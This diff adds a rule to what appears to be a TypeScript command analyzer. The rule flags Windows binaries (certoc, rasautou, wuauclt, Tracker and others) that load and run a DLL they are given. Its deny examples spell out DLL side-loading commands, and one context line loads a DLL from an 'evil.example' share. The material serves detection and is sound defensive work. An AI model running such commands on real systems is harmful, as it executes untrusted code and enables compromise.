@@ -554,6 +554,17 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     examples: { deny: [ps('odbcconf.exe /f x.rsp'), ps('odbcconf /a {REGSVR \\\\evil.example\\share\\x.dll}'), ps('odbcconf /a {REGSVR payload.dll}'), ps('odbcconf /a {REGSVR C:\\tools\\driver.dll}')], pass: [ps('odbcconf /a {CONFIGDSN "SQL Server" "DSN=dev|Server=localhost"}'), ps('odbcconf /?')] },
   },
   {
+    names: ['certoc', 'rasautou', 'wuauclt', 'tracker', 'coregen', 'register-cimprovider'],
+    summary: "Programs that load a DLL they are given and run its code (LOLBAS): certoc -LoadDLL, rasautou -d, wuauclt /UpdateDeploymentProvider, Tracker /d, CoreGen /L, Register-CimProvider -Path",
+    analyze: (call) => {
+      const option = { certoc: /^[-/]loaddll$/i, rasautou: /^-d$/i, wuauclt: /^[-/]updatedeploymentprovider$/i, tracker: /^\/d$/i, coregen: /^[-/]l$/i, 'register-cimprovider': /^-path$/i }[call.name.toLowerCase()];
+      const at = option ? call.args.findIndex((w) => w.values === null || option.test(value(w) ?? '')) : -1;
+      const dll = at >= 0 ? (call.args[at + 1] ?? call.args[at]!) : undefined;
+      return dll ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: dll, why: `${call.name} loads ${dll.text} and runs its code` }] } : {};
+    },
+    examples: { deny: [ps('certoc.exe -LoadDLL C:\\tmp\\payload.dll'), ps('rasautou -d payload.dll -p export_name -a a -e e'), ps('wuauclt.exe /UpdateDeploymentProvider C:\\tmp\\payload.dll /RunHandlerComServer'), ps('Tracker.exe /d payload.dll /c C:\\Windows\\write.exe')], pass: [ps('wuauclt.exe /detectnow'), ps('coregen.exe dummy_assembly_name')] },
+  },
+  {
     names: ['installutil'],
     summary: "InstallUtil (.NET): loads the assemblies it is given and runs their installer classes' Install (or, with /U, Uninstall) code, which installs services; /? and /help print help",
     analyze: (call) => {
